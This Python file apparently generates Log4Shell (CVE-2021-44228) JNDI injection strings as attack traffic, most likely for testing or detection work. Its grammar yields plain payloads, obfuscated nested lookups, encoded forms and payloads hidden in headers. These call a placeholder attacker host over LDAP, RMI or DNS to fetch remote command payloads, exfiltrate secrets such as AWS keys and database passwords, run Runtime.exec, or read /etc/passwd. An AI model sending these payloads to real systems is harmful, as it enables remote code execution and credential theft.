"""JNDI look-ups in log messages (Log4Shell, CVE-2021-44228), plain and hidden in nested look-ups.

Look-ups after the Log4j 2 manual (lower, upper, env, sys, date, ctx, base64, ...).
"""

import random

from traffic.grammars.attacks.pieces import Grammar, Symbols, after_value


# Tables: as many alternatives to a line as fit.
# fmt: off
def _hidden(word: str, rng: random.Random) -> str:
    """``word`` with some letters written as look-ups that give the letter."""
    ways = (
        "${{lower:{}}}", "${{upper:{}}}", "${{::-{}}}", "${{env:{n}:-{}}}", "${{{n}:{n}:-{}}}",
        "${{sys:{n}:-{}}}", "${{date:'{}'}}", "${{lower:{}}}", "${{-{}}}", "${{:-{}}}",
    )
    letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    share = rng.choice((0.2, 0.5, 1.0))
    name = "".join(rng.choices(letters, k=rng.randint(1, 8)))
    way = rng.choice(ways)
    return "".join(
        (way if rng.random() < 0.7 else rng.choice(ways)).format(letter, n=name)
        if rng.random() < share
        else letter
        for letter in word
    )


_SYMBOLS: Symbols = {
    "proto": (
        "ldap", "ldap", "ldap", "ldaps", "rmi", "rmi", "dns", "dns", "iiop", "corba", "nis", "nds",
        "http", "LDAP", "Rmi",
    ),
    "leak": (
        "${env:‹AWS_SECRET_ACCESS_KEY¦USER¦PATH¦AWS_ACCESS_KEY_ID¦HOSTNAME¦DB_PASSWORD¦"
        "JAVA_VERSION¦‹id››}",
        "${sys:‹java.version¦os.name¦user.name¦user.dir›}", "${java:‹version¦os¦vm¦runtime›}",
        "${ctx:‹id›}", "${bundle:application:‹id›}", "${main:‹d›}", "${docker:containerId}",
        "${k8s:podName}", "${web:rootDir}", "${log4j:configLocation}",
    ),
    "to": (
        "‹evil›/‹rnd›", "‹evil›/a", "‹evil›:‹port›/‹id›",
        "‹evil›:1389/‹Basic/Command/Base64/‹b64s›¦Exploit¦o=tomcat¦‹rnd››", "‹ip›:‹port›/‹rnd›",
        "‹lan›:‹port›/‹id›", "‹leak›.‹evil›/‹rnd›", "127.0.0.1#‹evil›/‹abc›", "‹evil›",
        "‹evil›:‹port›/TomcatBypass/Command/Base64/‹b64s›", "x‹leak›.‹rand›.‹evil›",
        "[‹hex4›::‹hex2›]/‹abc›",
    ),
    "hj": lambda rng: _hidden("jndi", rng),
    "hl": lambda rng: _hidden(rng.choice(("ldap", "rmi", "dns", "ldaps")), rng),
    "hjl": lambda rng: _hidden(rng.choice(("jndi:ldap:", "jndi:rmi:", "jndi:dns:")), rng),
}

_GRAMMAR = Grammar(_SYMBOLS, finish=after_value(0.35, ("", " ", "=", ": ")))

RULES = _GRAMMAR.rules(
    plain=(
        "${jndi:‹proto›://‹to›}", "${jndi:‹proto›://‹to›}", "${jndi:‹proto›:/‹to›}",
        "${jndi:‹proto›:‹to›}", "$‹{¦%7B›jndi:‹proto›://‹to›‹}¦%7D›", "${jndi:‹proto›://‹to›",
    ),
    hidden_letters=(
        "${‹hjl›//‹to›}", "${‹hj›:‹hl›://‹to›}", "${jndi:‹hl›://‹to›}", "${‹hj›:ldap://‹to›}",
    ),
    nested=(
        "${${lower:jndi}:${lower:‹proto›}://‹to›}", "${${::-j}ndi:‹proto›://‹to›}",
        "${${env:‹id›:-jndi}${env:‹id›:-:}${env:‹id›:-‹proto›}://‹to›}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}‹proto›://‹to›}", "${${‹rnd›:-${lower:jndi}}:‹proto›://‹to›}",
        "${${upper:j}${upper:n}${lower:d}i:‹proto›${::-:}//‹to›}",
        "${jnd${upper:ı}:‹proto›://‹to›}", "${jn${lower:}di:‹proto›://‹to›}",
        "${base64:JHtqbmRp‹b64s›}", "${j${main:\\k5:-Nd}i:‹proto›://‹to›}",
        "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:‹proto›://‹to›}",
    ),
    leaking=(
        "${jndi:‹proto›://‹leak›.‹evil›/‹abc›}", "${jndi:dns://‹leak›.‹rand›.‹evil›}",
        "${jndi:‹proto›://‹evil›/‹leak›/‹leak›}", "${jndi:‹proto›://‹abc›.‹leak›.‹evil›}",
    ),
    lookup_alone=(
        "‹leak›", "${‹leak›}", "‹leak›‹leak›", "x=‹leak›‹rnd›", "${jndi:java:comp/env/‹id›}",
        "${script:javascript:java.lang.Runtime.getRuntime().exec('‹id›')}", "${url:UTF-8:‹url›}",
        "${dns:address|‹evil›}", "${script:js:‹n›+‹n›}", "${file:UTF-8:/etc/‹passwd¦hosts›}",
    ),
    in_header=(
        "Mozilla/5.0 ${jndi:‹proto›://‹to›}", "‹word›=${jndi:‹proto›://‹to›}; ‹word›=‹rnd›",
        '"${jndi:‹proto›://‹to›}"', '{"‹id›":"${jndi:‹proto›://‹to›}"}',
        "Bearer ${jndi:‹proto›://‹to›}", "‹name›@${jndi:‹proto›://‹to›}",
        "/‹word›/${jndi:‹proto›://‹to›}", "'${jndi:‹proto›://‹to›}'", "(${‹hj›:‹proto›://‹to›})",
    ),
    recursion=(
        "${${::-${::-$${::-‹abc›}}}}", "${${::-${::-‹rnd›}}}${jndi:‹proto›://‹to›}",
        "${${ctx:‹id›}}${${sys:‹id›:-‹rnd›}}",
    ),
    spring=(
        "${jndi:‹proto›://‹to›}${‹leak›}", "$${jndi:‹proto›://‹to›}",
        "%24%7Bjndi:‹proto›://‹to›%7D", "$%7Bjndi:‹proto›:%2F%2F‹to›%7D",
        "${jndi:‹proto›%3A//‹to›}", "\\u0024{jndi:‹proto›://‹to›}",
    ),
)
